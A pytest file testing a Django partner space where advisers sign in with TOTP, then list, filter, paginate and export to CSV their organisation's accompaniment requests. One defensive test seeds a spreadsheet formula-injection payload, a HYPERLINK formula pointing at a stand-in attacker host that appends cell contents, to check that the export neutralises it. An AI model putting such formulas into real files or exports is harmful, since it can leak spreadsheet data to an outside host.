"""The partner space: advisers sign in with TOTP, list and export their organisation's requests,
and handle each one (take, ask, close, reopen, decline, notes, action plan): signing in, the list."""

import csv
import datetime
import io

import pytest
from allauth.account.models import EmailAddress

from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from guichet.enums import Status
from portail.middleware import LAST_ACTIVITY
from tests.guichet.conftest import (
    SPACE,
    act,
    detail_path,
    references,
)
from tests.guichet.factories import AccompanimentRequestFactory, commune, submit
from tests.portail.factories import UserFactory
from tests.utils import in_language, signed_in

pytestmark = pytest.mark.django_db

# Signing in


def test_the_partner_space_asks_to_sign_in(client, partners):
    response = client.get(SPACE)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('account_login')}?next={SPACE}"


def test_an_adviser_without_two_factor_authentication_is_sent_to_set_it_up(client, adviser):
    client.force_login(adviser)

    response = client.get(SPACE)

    assert response.status_code == 302
    with translation.override("fr"):
        assert response["Location"] == reverse("mfa_activate_totp")


def test_an_adviser_who_did_not_use_totp_in_this_session_is_asked_for_it(client, adviser):
    signed_in(Client(), adviser)  # TOTP set up, elsewhere
    client.force_login(adviser)

    response = client.get(f"{SPACE}?statut=open")

    with translation.override("fr"):
        assert response["Location"].startswith(reverse("mfa_reauthenticate") + "?next=")
    assert "statut%3Dopen" in response["Location"]


def test_a_signed_in_adviser_sees_the_partner_space(signed_adviser, lorrain_request):
    response = signed_adviser.get(SPACE)

    assert response.status_code == 200
    assert references(response.content.decode()) == [lorrain_request.reference]


def test_someone_who_is_not_a_partner_member_is_forbidden(client, partners, lorrain_request):
    visitor = UserFactory()
    EmailAddress.objects.create(user=visitor, email=visitor.email, verified=True, primary=True)
    signed_in(client, visitor)

    assert client.get(SPACE).status_code == 403
    assert client.get(detail_path(lorrain_request)).status_code == 403
    assert act(client, lorrain_request, "take").status_code == 403


# The list


def test_the_list_shows_only_the_requests_of_the_advisers_organisation(signed_adviser, partners):
    mine = submit(company_name="Ti Kaz Créole")  # Le Lorrain → CAP Nord
    theirs = submit(company_name="Boutik Foyal", commune=commune("97209"))  # Fort-de-France → CACEM

    page = signed_adviser.get(SPACE).content.decode()

    assert references(page) == [mine.reference]
    assert "Boutik Foyal" not in page and theirs.reference not in page


@pytest.fixture
def listed(partners):
    """Four CAP Nord requests that differ on status, need, commune and age."""
    now = timezone.now()
    requests = {
        "new": AccompanimentRequestFactory(company_name="Neuf", needs=["site-web"]),
        "taken": AccompanimentRequestFactory(
            company_name="Pris", status=Status.IN_PROGRESS, needs=["cybersecurite", "site-web"]
        ),
        "closed": AccompanimentRequestFactory(
            company_name="Clos", status=Status.CLOSED, outcome="accompanied", needs=["financement"]
        ),
        "old": AccompanimentRequestFactory(
            company_name="Ancien",
            commune=commune("97228"),
            needs=["formation-salaries"],  # Sainte-Marie
        ),
    }
    for name, days in [("new", 1), ("taken", 10), ("closed", 20), ("old", 45)]:
        type(requests[name]).objects.filter(pk=requests[name].pk).update(
            created_at=now - datetime.timedelta(days=days)
        )
    return {name: request.reference for name, request in requests.items()}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["new", "taken", "closed", "old"]),
        ("statut=open", ["new", "taken", "old"]),
        ("statut=closed", ["closed"]),
        ("statut=in_progress", ["taken"]),
        ("besoin=site-web", ["new", "taken"]),
        ("besoin=financement", ["closed"]),
        ("commune=Sainte-Marie", ["old"]),
        ("age=7", ["new"]),
        ("age=30", ["new", "taken", "closed"]),
        ("age=older", ["old"]),
        ("tri=oldest", ["old", "closed", "taken", "new"]),
        ("tri=commune", ["new", "taken", "closed", "old"]),  # Le Lorrain, then Sainte-Marie
        ("statut=open&besoin=site-web&tri=oldest", ["taken", "new"]),
    ],
)
def test_the_list_filters_and_sorts(signed_adviser, listed, query, expected):
    page = signed_adviser.get(f"{SPACE}?{query}").content.decode()

    assert references(page) == [listed[name] for name in expected]


def test_the_list_downloads_as_csv_with_the_advisers_requests_only(signed_adviser, partners, listed):
    AccompanimentRequestFactory(company_name="Chez un autre", partner=partners["cacem"])

    response = signed_adviser.get(f"{SPACE}?statut=open&format=csv")

    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="demandes-')
    assert rows[0][:3] == [
        in_language("fr", "Reference", escaped=False),
        in_language("fr", "Received at", escaped=False),
        in_language("fr", "Status", escaped=False),
    ]
    assert sorted(row[0] for row in rows[1:]) == sorted([listed["new"], listed["taken"], listed["old"]])
    assert "Chez un autre" not in text and "Clos" not in text


def test_what_a_company_typed_cannot_become_a_spreadsheet_formula_in_the_export(signed_adviser, partners):
    """The form is public: a name like =HYPERLINK(…) must open as text in Excel or LibreOffice."""
    AccompanimentRequestFactory(
        company_name='=HYPERLINK("https://evil.example/?"&B2;"Voir la demande")', contact_name="@SUM(1+1)"
    )

    response = signed_adviser.get(f"{SPACE}?format=csv")

    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 2 and any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_the_list_shows_25_requests_a_page(signed_adviser, partners):
    for _ in range(26):
        AccompanimentRequestFactory()

    first = signed_adviser.get(SPACE).content.decode()
    second = signed_adviser.get(f"{SPACE}?page=2").content.decode()

    assert len(references(first)) == 25 and len(references(second)) == 1
    assert not set(references(first)) & set(references(second))


# Idle timeout (the partner space shows companies' personal data; advisers need not be staff)


def test_an_adviser_idle_in_the_partner_space_is_signed_out(client, adviser):
    signed_in(client, adviser)
    assert client.get(SPACE).status_code == 200
    session = client.session
    session[LAST_ACTIVITY] -= 31 * 60
    session.save()

    response = client.get(SPACE)

    assert response["Location"] == f"{reverse('account_login')}?next={SPACE}"
    assert "_auth_user_id" not in client.session
